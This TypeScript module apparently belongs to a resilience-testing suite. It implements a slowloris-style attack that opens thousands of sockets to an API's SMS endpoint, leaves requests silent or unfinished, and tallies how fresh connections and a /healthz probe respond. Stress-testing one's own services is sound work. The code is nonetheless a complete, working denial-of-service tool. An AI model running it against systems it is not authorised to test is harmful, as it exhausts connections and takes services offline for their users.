import { connect, type Socket } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import type { Attack } from '../attack.js';

/** A connection does this once it is open. A request in `body` is begun and never finished. */
const FIRST_WORDS = {
  silent: '',
  head: 'POST /api/sms/v1/sendsms HTTP/1.1\r\nhost: x\r\n',
  body: 'POST /api/sms/v1/sendsms HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 9999\r\n\r\n{',
  idle: 'POST /x HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n',
} as const;
const STEP_MS = 20;
const PROBE_MS = 250;
const PROBE_TIMEOUT_MS = 2_000;

/** Opens connections and keeps them, `connections` at most and `rate` a second, and opens another for each that is closed. */
export const attack: Attack = {
  summary: 'Opens thousands of connections that send nothing, half a head, half a body, or one request.',
  run: async ({ api, ops, seconds, option }) => {
    const kind = option('kind', 'silent') as keyof typeof FIRST_WORDS;
    const [most, rate] = [Number(option('connections', '15000')), Number(option('rate', '2000'))];
    const open = new Set<Socket>();
    let [opened, mostOpen] = [0, 0];
    const openOne = (): void => {
      const socket = connectTo(api);
      open.add(socket);
      socket.once('close', () => open.delete(socket)).resume();
      socket.once('connect', () => {
        opened++;
        mostOpen = Math.max(mostOpen, open.size);
        if (FIRST_WORDS[kind]) socket.write(FIRST_WORDS[kind]);
      });
    };
    const [newcomers, probes] = [new Array<Promise<string>>(), new Array<Promise<string>>()];
    const probing = setInterval(() => {
      newcomers.push(statusOf(api, FIRST_WORDS.idle));
      probes.push(statusOf(ops, 'GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n'));
    }, PROBE_MS);
    const endsAt = performance.now() + seconds * 1000;
    while (performance.now() < endsAt) {
      for (let n = 0; n < (rate * STEP_MS) / 1000 && open.size < most; n++) openOne();
      await setTimeout(STEP_MS);
    }
    clearInterval(probing);
    const seen = [
      `${opened} connections, ${mostOpen} at once at most`,
      `new connections to the API got: ${await counted(newcomers)}`,
      `new connections to /healthz got: ${await counted(probes)}`,
    ];
    open.forEach((socket) => socket.destroy());
    return seen;
  },
};

const connectTo = (url: string): Socket => {
  const { hostname, port } = new URL(url);
  return connect(Number(port), hostname).on('error', () => undefined);
};

/** The status that a new connection gets for its first request, or `nothing`. */
const statusOf = (url: string, request: string): Promise<string> =>
  new Promise((resolve) => {
    const socket = connectTo(url).setTimeout(PROBE_TIMEOUT_MS, () => socket.destroy());
    socket.once('data', (data: Buffer) => {
      resolve(data.toString('latin1', 9, 12));
      socket.destroy();
    });
    socket.once('close', () => resolve('nothing')).write(request);
  });

async function counted(statuses: readonly Promise<string>[]): Promise<string> {
  const counts = new Map<string, number>();
  for (const status of await Promise.all(statuses)) counts.set(status, (counts.get(status) ?? 0) + 1);
  return [...counts].map(([status, count]) => `${count} × ${status}`).join(', ');
}
